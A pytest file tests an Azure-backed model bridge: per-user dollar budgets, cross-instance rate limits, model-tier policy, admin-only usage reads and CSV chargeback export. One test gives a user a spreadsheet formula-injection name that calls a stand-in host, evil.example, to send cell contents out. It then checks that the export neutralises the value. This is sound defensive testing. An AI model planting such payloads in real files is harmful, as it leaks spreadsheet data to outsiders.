"""Costs in dollars as users meet them (issue 20): two `python -m bridge` processes with CLIENT_AUTH=entra sharing
one usage table on Azurite, the local OpenID stand-in, the fake Azure answering with known usage.

Both bridges serve opus from gpt-5, sonnet from gpt-5-mini and haiku from gpt-4o (chat/completions), priced
from the kept table (genai-prices), gpt-4o with a data-zone uplift (PRICES `gpt-4o=model:gpt-4o*1.1`).  Every
person may spend $1 a day and $20 a month (Bridge.Lead: unlimited), 30 requests and 50M tokens a minute; the
default model policy is sonnet and haiku (Bridge.Lead and Bridge.Admin: every tier); Bridge.Admin reads
anyone's usage.  Each test signs in a person of its own (`new_user`), so no test sees another's spend.
"""

from __future__ import annotations

import concurrent.futures
import csv
import io
import json
import time
import uuid
from collections.abc import Iterator
from decimal import Decimal
from typing import Any

import anthropic
import httpx
import openai
import pytest

from tests.support.azurite import Azurite, requires_azurite
from tests.support.bridge import RunningBridge, bridge_env, line_of, running_bridge, two_instances
from tests.support.fake_azure import FakeAzure, Faults, Text
from tests.support.fake_entra import FakeEntra, User

pytestmark = [requires_azurite, pytest.mark.process]

MEMBER, LEAD, ADMIN = "Bridge.User", "Bridge.Lead", "Bridge.Admin"
TIERS = {"BIG_MODEL": "gpt-5", "MIDDLE_MODEL": "gpt-5-mini", "SMALL_MODEL": "gpt-4o"}
REQUESTS_PER_MINUTE = 30
MESSAGE: dict[str, Any] = {"model": "claude-opus-4-8", "max_tokens": 50, "messages": [{"role": "user", "content": "hi"}]}
WAIT_SECONDS = 10.0


def costs_env(fake_azure: FakeAzure, entra: FakeEntra, **more: str) -> dict[str, str]:
    settings = {
        **entra.bridge_settings(),
        **TIERS,
        "ENTRA_REQUIRED_ROLE": MEMBER,
        "ENTRA_ADMIN_ROLE": ADMIN,
        "BUDGET_DAILY_USD": "1",
        "BUDGET_MONTHLY_USD": "20",
        "BUDGET_OVERRIDES": f"role:{LEAD}=daily_usd:unlimited,monthly_usd:unlimited",
        "PRICES": "gpt-4o=model:gpt-4o*1.1",
        "RATE_LIMIT_REQUESTS_PER_MINUTE": str(REQUESTS_PER_MINUTE),
        "RATE_LIMIT_TOKENS_PER_MINUTE": "50M",
        "MODEL_POLICY": f"role:{LEAD}=opus,sonnet,haiku;role:{ADMIN}=opus,sonnet,haiku;default=sonnet,haiku",
    }
    return bridge_env(fake_azure, **{**settings, **more})


@pytest.fixture(scope="module")
def bridges(
    fake_azure: FakeAzure, entra: FakeEntra, azurite: Azurite, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[RunningBridge, RunningBridge]]:
    env = costs_env(fake_azure, entra, USAGE_CONNECTION_STRING=azurite.connection_string)
    logs = tmp_path_factory.mktemp("costs")
    with two_instances(env, logs) as pair:
        yield pair


def headers_for(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}", "anthropic-version": "2023-06-01"}


def claude(bridge: RunningBridge, token: str) -> anthropic.Anthropic:
    return anthropic.Anthropic(base_url=bridge.url, api_key=token, max_retries=0)


def cursor(bridge: RunningBridge, token: str) -> openai.OpenAI:
    return openai.OpenAI(base_url=bridge.url + "/v1", api_key=token, max_retries=0)


def usage_of(bridge: RunningBridge, token: str, **params: str) -> httpx.Response:
    return httpx.get(bridge.url + "/v1/usage", params=params, headers=headers_for(token), timeout=10)


def wait_for_requests(bridge: RunningBridge, token: str, count: int) -> dict[str, Any]:
    deadline = time.monotonic() + WAIT_SECONDS
    while True:
        answer = usage_of(bridge, token)
        assert answer.status_code == 200, answer.text
        usage: dict[str, Any] = answer.json()
        if usage["today"]["requests"] >= count or time.monotonic() > deadline:
            return usage
        time.sleep(0.05)


def person(*roles: str, name: str | None = None) -> User:
    object_id = str(uuid.uuid4())
    return User(object_id, name or f"user-{object_id[:8]}@contoso.example", f"User {object_id[:8]}", (MEMBER, *roles))


# ----- trust boundaries: the attacker's probes ------------------------------------------------------------------


def test_a_person_reads_only_their_own_usage(bridge_a: RunningBridge, entra: FakeEntra) -> None:
    victim, nosy = person(), person()
    for who in (victim.object_id, victim.username):
        answer = usage_of(bridge_a, entra.token(nosy), user=who)
        assert answer.status_code == 403, answer.text
        assert ADMIN in answer.text and "ENTRA_ADMIN_ROLE" in answer.text
    export = httpx.get(
        bridge_a.url + "/v1/usage/export", params={"month": "2026-12"}, headers=headers_for(entra.token(nosy)), timeout=10
    )
    assert export.status_code == 403, export.text


def test_an_admin_reads_anyones_usage_by_id_or_name(
    bridge_a: RunningBridge, bridge_b: RunningBridge, entra: FakeEntra, fake_azure: FakeAzure
) -> None:
    spender, admin = person(), person(ADMIN)
    fake_azure.enqueue(Text("Counted."))
    claude(bridge_a, entra.token(spender)).messages.create(**{**MESSAGE, "model": "claude-sonnet-4-6"})
    own = wait_for_requests(bridge_b, entra.token(spender), 1)
    for who in (spender.object_id, spender.username):
        answer = usage_of(bridge_b, entra.token(admin), user=who)
        assert answer.status_code == 200, answer.text
        read = answer.json()
        assert read["user"] == {"id": spender.object_id, "name": spender.username}
        assert read["today"]["requests"] == 1 and read["today"]["cost_usd"] == own["today"]["cost_usd"] > 0
        assert read["budgets"] == own["budgets"] and read["today"]["limit_usd"] == 1, "the limits of their last request"
    unknown = usage_of(bridge_b, entra.token(admin), user="nobody@contoso.example")
    assert unknown.status_code == 404 and "nobody@contoso.example" in unknown.text


def test_the_export_is_chargeback_csv_that_no_name_can_turn_into_a_formula(
    bridge_a: RunningBridge, bridge_b: RunningBridge, entra: FakeEntra, fake_azure: FakeAzure
) -> None:
    sneaky = person(name='=HYPERLINK("https://evil.example/?"&A1,"click")')
    admin = person(ADMIN)
    fake_azure.enqueue(Text("Billed.", prompt_tokens=10_000, cached_tokens=8_000))
    claude(bridge_a, entra.token(sneaky)).messages.create(**{**MESSAGE, "model": "claude-haiku-4-5"})
    wait_for_requests(bridge_a, entra.token(sneaky), 1)
    month = time.strftime("%Y-%m", time.gmtime())
    answer = httpx.get(
        bridge_b.url + "/v1/usage/export", params={"month": month}, headers=headers_for(entra.token(admin)), timeout=30
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert f"bridge-usage-{month}.csv" in answer.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    mine = [row for row in rows if row["user_id"] == sneaky.object_id]
    assert len(mine) == 1, rows
    (row,) = mine
    assert row["user_name"].startswith("'="), "a cell a spreadsheet would run as a formula is quoted"
    assert row["deployment"] == "gpt-4o" and row["requests"] == "1"
    assert (row["cached_input_tokens"], int(row["input_tokens"])) == ("8000", 2000)
    for bad in ("2026-13", "2026-1", "december", "2026-12-01"):
        refused = httpx.get(
            bridge_b.url + "/v1/usage/export", params={"month": bad}, headers=headers_for(entra.token(admin)), timeout=10
        )
        assert refused.status_code == 400 and "YYYY-MM" in refused.text, bad


def test_the_model_policy_cannot_be_bypassed_by_naming_another_tier(
    bridge_a: RunningBridge, entra: FakeEntra, fake_azure: FakeAzure
) -> None:
    """The default policy is sonnet and haiku: opus by family name, by its deployment's name, or by a deployment
    no tier names, is served by sonnet's deployment."""
    token = entra.token(person())
    for model in ("claude-opus-4-8", "gpt-5", "some-other-deployment"):
        fake_azure.enqueue(Text("Served by sonnet."))
        answer = httpx.post(bridge_a.url + "/v1/messages", json={**MESSAGE, "model": model}, headers=headers_for(token))
        assert answer.status_code == 200, (model, answer.text)
        assert answer.headers["x-bridge-deployment"] == "gpt-5-mini", model
        assert "sonnet" in answer.json()["model"], (model, answer.json()["model"])
    assert {r.deployment for r in fake_azure.requests} == {"gpt-5-mini"}
    fake_azure.enqueue(Text("Served by sonnet, for Cursor."))
    chat = cursor(bridge_a, token).chat.completions.create(model="gpt-5", messages=[{"role": "user", "content": "hi"}])
    assert chat.model == "gpt-5-mini", "the answer names the deployment that served it"
    listed = httpx.get(bridge_a.url + "/v1/models", headers=headers_for(token), timeout=10).json()
    assert [m["id"] for m in listed["data"]] == ["claude-sonnet-5-5", "claude-haiku-5-5"]


def test_a_rate_limit_holds_across_two_instances(
    bridge_a: RunningBridge, bridge_b: RunningBridge, entra: FakeEntra, fake_azure: FakeAzure
) -> None:
    token = entra.token(person(LEAD))
    fake_azure.respond_with(lambda _: Text("ok", faults=Faults(delay_first_byte=0.3)))
    count = REQUESTS_PER_MINUTE + 12

    def ask(index: int) -> httpx.Response:
        bridge = (bridge_a, bridge_b)[index % 2]
        return httpx.post(bridge.url + "/v1/messages", json=MESSAGE, headers=headers_for(token), timeout=30)

    with concurrent.futures.ThreadPoolExecutor(max_workers=count) as pool:
        answers = list(pool.map(ask, range(count)))
    statuses = [a.status_code for a in answers]
    assert statuses.count(200) == REQUESTS_PER_MINUTE, statuses
    refused = [a for a in answers if a.status_code == 429]
    assert len(refused) == count - REQUESTS_PER_MINUTE
    for answer in refused:
        assert answer.json()["error"]["type"] == "rate_limit_error"
        assert 0 < int(answer.headers["retry-after"]) <= 60
        assert "x-should-retry" not in answer.headers, "worth retrying"
        assert "RATE_LIMIT_REQUESTS_PER_MINUTE" in answer.text and f"{REQUESTS_PER_MINUTE} requests a minute" in answer.text


def test_a_stream_abandoned_before_its_first_byte_is_charged(
    bridge_a: RunningBridge, bridge_b: RunningBridge, entra: FakeEntra, fake_azure: FakeAzure
) -> None:
    """The client asks for a stream and hangs up before the bridge has sent a byte: Azure still bills the
    call, so the person's budget is charged (its input), and its hold released."""
    token = entra.token(person(LEAD))
    fake_azure.enqueue(Text("Nobody reads this.", faults=Faults(delay_first_byte=2)))
    with (
        pytest.raises(httpx.ReadTimeout),
        httpx.stream(
            "POST",
            bridge_a.url + "/v1/messages",
            json={**MESSAGE, "stream": True},
            headers=headers_for(token),
            timeout=httpx.Timeout(10, read=0.5),
        ) as response,
    ):
        response.read()
    time.sleep(2.5)
    today = wait_for_requests(bridge_b, token, 1)["today"]
    assert today["requests"] == 1 and today["input_tokens"] > 0, today
    assert today["cost_usd"] > 0, today


# ----- prices, dollars, standing --------------------------------------------------------------------------------


def dollars(value: Any) -> Decimal:
    return Decimal(str(value))


def test_the_cost_is_azures_usage_at_the_tables_prices_to_the_cent(
    bridge_a: RunningBridge, bridge_b: RunningBridge, entra: FakeEntra, fake_azure: FakeAzure
) -> None:
    """gpt-5 at $1.25 / $0.125 / $10 per million input, cached and output tokens (genai-prices, Azure Global)."""
    token = entra.token(person(LEAD))
    fake_azure.enqueue(Text("Expensive.", prompt_tokens=1_200_000, cached_tokens=1_000_000, reasoning_tokens=99_998))
    reply = claude(bridge_a, token).messages.create(**MESSAGE)
    assert (reply.usage.input_tokens, reply.usage.cache_read_input_tokens) == (200_000, 1_000_000)
    output = reply.usage.output_tokens
    expected = (Decimal(200_000) * Decimal("1.25") + Decimal(1_000_000) * Decimal("0.125") + output * 10) / 1_000_000
    today = wait_for_requests(bridge_b, token, 1)["today"]
    assert round(dollars(today["cost_usd"]), 2) == round(expected, 2) == Decimal("1.38")
    assert dollars(today["models"]["gpt-5"]["cost_usd"]) == dollars(today["cost_usd"])
    assert dollars(today["agents"]["main"]["cost_usd"]) == dollars(today["cost_usd"])
    line = line_of(bridge_a, str(reply._request_id))
    assert round(dollars(line["cost_usd"]), 6) == round(expected, 6)
    parts = line["cost_parts_usd"]
    assert (dollars(parts["input"]), dollars(parts["cached"])) == (Decimal("0.25"), Decimal("0.125"))


def test_a_spent_dollar_budget_names_itself_its_use_and_its_reset(
    bridge_a: RunningBridge, bridge_b: RunningBridge, entra: FakeEntra, fake_azure: FakeAzure
) -> None:
    """$1 a day: one sonnet answer (gpt-5-mini, $2 per million output tokens) of 600,000 reasoning and output tokens
    spends it; the next request, on the other instance, is refused until midnight UTC."""
    token = entra.token(person())
    fake_azure.enqueue(Text("Spent.", prompt_tokens=10_000, reasoning_tokens=599_999))
    first = httpx.post(bridge_a.url + "/v1/messages", json={**MESSAGE, "model": "claude-sonnet-4-6"}, headers=headers_for(token))
    assert first.status_code == 200, first.text
    assert first.headers["x-bridge-budget-remaining-usd-day"] == "1.00"
    assert first.headers["x-bridge-budget-remaining-usd-month"] == "20.00"
    reset_day = first.headers["x-bridge-budget-reset-day"]
    assert reset_day.endswith("T00:00:00Z") and first.headers["x-bridge-budget-reset-month"].endswith("-01T00:00:00Z")
    assert "x-bridge-budget-remaining-tokens-day" not in first.headers, "no token budget applies"
    today = wait_for_requests(bridge_b, token, 1)["today"]
    assert dollars(today["cost_usd"]) == Decimal("1.2025"), "10,000 at $0.25 + 600,000 at $2 per million"
    calls = len(fake_azure.requests)
    for refused, kind in (
        (httpx.post(bridge_b.url + "/v1/messages", json=MESSAGE, headers=headers_for(token), timeout=10), "billing_error"),
        (
            httpx.post(
                bridge_a.url + "/v1/chat/completions",
                json={"model": "gpt-5-mini", "messages": [{"role": "user", "content": "hi"}]},
                headers={"Authorization": f"Bearer {token}"},
                timeout=10,
            ),
            "insufficient_quota",
        ),
    ):
        assert refused.status_code == 429, refused.text
        assert refused.json()["error"]["type"] == kind, "a spent dollar budget is a spend limit (issue 22)"
        assert refused.headers["anthropic-ratelimit-unified-overage-disabled-reason"] == "org_spend_cap_reached"
        message = refused.json()["error"]["message"]
        assert message.startswith("Daily dollar budget used up: $1.20 of $1.00 today (UTC). It resets at "), message
        assert f"{reset_day[:10]} 00:00 UTC" in message
        assert refused.headers["x-should-retry"] == "false"
        wait = int(refused.headers["retry-after"])
        assert 0 < wait <= 86_400 and abs(time.time() + wait - _epoch(reset_day)) < 5, "seconds until midnight UTC"
        assert refused.headers["x-bridge-budget-remaining-usd-day"] == "0.00"
    assert len(fake_azure.requests) == calls, "refused before Azure"


def _epoch(iso: str) -> float:
    return time.mktime(time.strptime(iso, "%Y-%m-%dT%H:%M:%SZ")) - time.timezone


def test_past_the_warning_threshold_answers_warn_and_the_log_says_so_once(
    bridge_a: RunningBridge, bridge_b: RunningBridge, entra: FakeEntra, fake_azure: FakeAzure
) -> None:
    user = person()
    token = entra.token(user)
    fake_azure.enqueue(Text("Most of it.", prompt_tokens=4_000, reasoning_tokens=424_997))
    sonnet = {**MESSAGE, "model": "claude-sonnet-4-6"}
    first = httpx.post(bridge_a.url + "/v1/messages", json=sonnet, headers=headers_for(token), timeout=10)
    assert first.status_code == 200 and "x-bridge-budget-warning" not in first.headers
    wait_for_requests(bridge_b, token, 1)
    for bridge in (bridge_b, bridge_a, bridge_b):
        fake_azure.enqueue(Text("ok"))
        answer = httpx.post(bridge.url + "/v1/messages", json=sonnet, headers=headers_for(token), timeout=10)
        assert answer.status_code == 200, answer.text
        assert answer.headers["x-bridge-budget-warning"] == "usd-day 85%", answer.headers
        assert answer.headers["x-bridge-budget-remaining-usd-day"] in ("0.14", "0.13")
    time.sleep(0.5)
    logged = [line for b in (bridge_a, bridge_b) for line in b.log().splitlines() if f"budget warning: {user.username}" in line]
    assert len(logged) == 1, logged
    assert "has used 85% of their daily dollar budget ($0.85 of $1.00 for " in logged[0]
    usage = usage_of(bridge_a, token).json()
    assert usage["warning"] == "usd-day 85%"
    assert [b["budget"] for b in usage["budgets"]] == ["usd-month", "usd-day"]


def test_a_subagents_requests_are_told_apart_from_the_main_agents(
    bridge_a: RunningBridge, bridge_b: RunningBridge, entra: FakeEntra, fake_azure: FakeAzure
) -> None:
    """Claude Code sends `x-claude-code-agent-id` on a subagent's requests only (../shared/claude-code-traffic/2.1.332,
    agent-06 and agent-07)."""
    token = entra.token(person(LEAD))
    fake_azure.enqueue(
        Text("Main.", prompt_tokens=1000), Text("Sub.", prompt_tokens=2000), Text("Sub again.", prompt_tokens=3000)
    )
    session = {"x-claude-code-session-id": str(uuid.uuid4())}
    claude(bridge_a, token).messages.create(**MESSAGE, extra_headers=session)
    for _ in range(2):
        answered = claude(bridge_b, token).messages.create(
            **MESSAGE, extra_headers={**session, "x-claude-code-agent-id": "acbdd6b3936148614"}
        )
    today = wait_for_requests(bridge_a, token, 3)["today"]
    main, sub = today["agents"]["main"], today["agents"]["subagents"]
    assert (main["requests"], sub["requests"]) == (1, 2)
    assert (main["input_tokens"], sub["input_tokens"]) == (1000, 5000)
    assert dollars(main["cost_usd"]) + dollars(sub["cost_usd"]) == dollars(today["cost_usd"])
    line = line_of(bridge_b, str(answered._request_id))
    assert line["agent"] == "subagent"


def test_a_data_zone_uplift_from_prices(bridge_a: RunningBridge, entra: FakeEntra, fake_azure: FakeAzure) -> None:
    """PRICES gpt-4o=model:gpt-4o*1.1: the table's $2.50 per million input tokens becomes $2.75."""
    token = entra.token(person(LEAD))
    fake_azure.enqueue(Text("Haiku.", prompt_tokens=1_000_000))
    reply = claude(bridge_a, token).messages.create(**{**MESSAGE, "model": "claude-haiku-4-5"})
    expected = (Decimal("2.75") * 1_000_000 + Decimal(11) * reply.usage.output_tokens) / 1_000_000
    today = wait_for_requests(bridge_a, token, 1)["today"]
    assert dollars(today["models"]["gpt-4o"]["cost_usd"]) == expected
    health = httpx.get(bridge_a.url + "/health", headers=headers_for(token), timeout=10).json()
    assert health["prices"]["gpt-4o"] == {
        "input": "2.75",
        "cached": "1.375",
        "output": "11",
        "source": "PRICES: model gpt-4o*1.1 (genai-prices 0.2.5: gpt-4o)",
    }
    assert health["prices"]["gpt-5"]["source"] == "genai-prices 0.2.5: gpt-5" and health["problems"] == []


def test_a_cut_stream_is_charged_its_estimate_priced_the_same_way(
    bridge_a: RunningBridge, bridge_b: RunningBridge, entra: FakeEntra, fake_azure: FakeAzure
) -> None:
    token = entra.token(person(LEAD))
    text = "The whole answer, read in full before hanging up on the bridge."
    fake_azure.enqueue(Text(text, pieces=3, faults=Faults(stall_after_chunks=6, stall_seconds=3)))
    seen = ""
    with httpx.stream(
        "POST", bridge_a.url + "/v1/messages", json={**MESSAGE, "stream": True}, headers=headers_for(token), timeout=10
    ) as response:
        for line in response.iter_lines():
            if line.startswith("data: ") and '"text_delta"' in line:
                seen += json.loads(line[6:])["delta"]["text"]
            if seen == text:
                break
    today = wait_for_requests(bridge_b, token, 1)["today"]
    per_million = {"input": Decimal("1.25"), "output": Decimal(10)}
    expected = (today["input_tokens"] * per_million["input"] + today["output_tokens"] * per_million["output"]) / 1_000_000
    assert today["output_tokens"] > 0 and dollars(today["cost_usd"]) == round(expected, 6), today
    line = line_of(bridge_a, response.headers["request-id"])
    assert line["usage_estimated"] is True and dollars(line["cost_usd"]) == dollars(today["cost_usd"]), "one value"


def test_a_tokens_per_minute_limit_is_worth_retrying(bridge_a: RunningBridge, entra: FakeEntra, fake_azure: FakeAzure) -> None:
    token = entra.token(person(LEAD))
    fake_azure.enqueue(Text("A huge prompt.", prompt_tokens=51_000_000))
    claude(bridge_a, token).messages.create(**MESSAGE)
    wait_for_requests(bridge_a, token, 1)
    refused = httpx.post(bridge_a.url + "/v1/messages", json=MESSAGE, headers=headers_for(token), timeout=10)
    assert refused.status_code == 429 and refused.json()["error"]["type"] == "rate_limit_error"
    assert "50,000,000 tokens a minute per person (RATE_LIMIT_TOKENS_PER_MINUTE)" in refused.text
    assert 0 < int(refused.headers["retry-after"]) <= 120 and "x-should-retry" not in refused.headers


def test_a_deployment_without_a_price_under_a_dollar_budget(
    fake_azure: FakeAzure, entra: FakeEntra, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """SMALL_MODEL is a deployment the table does not know: start-up and /health name it; its requests are refused to
    everyone with a dollar budget (never priced at $0), and served to whoever has none."""
    env = costs_env(fake_azure, entra, SMALL_MODEL="my-small", MODEL_POLICY="", PRICES="")
    with running_bridge(env, tmp_path_factory.mktemp("unpriced") / "bridge.log") as running:
        startup = running.log()
        assert "problem: SMALL_MODEL deployment 'my-small' has no price while BUDGET_DAILY_USD is set" in startup
        public = httpx.get(running.url + "/health", timeout=10)
        assert public.status_code == 503 and public.json()["status"] == "misconfigured"
        assert any(p.startswith("SMALL_MODEL has no price while BUDGET_DAILY_USD") for p in public.json()["problems"])
        assert "my-small" not in public.text, "the public /health names no deployment"
        token = entra.token(person())
        signed_in = httpx.get(running.url + "/health", headers=headers_for(token), timeout=10).json()
        assert signed_in["prices"]["my-small"] is None
        assert any("'my-small' has no price" in p for p in signed_in["problems"])
        haiku = {**MESSAGE, "model": "claude-haiku-4-5"}
        refused = httpx.post(running.url + "/v1/messages", json=haiku, headers=headers_for(token), timeout=10)
        assert refused.status_code == 500 and refused.headers["x-should-retry"] == "false"
        assert "'my-small' has no price" in refused.text and "PRICES" in refused.text
        assert fake_azure.requests == []
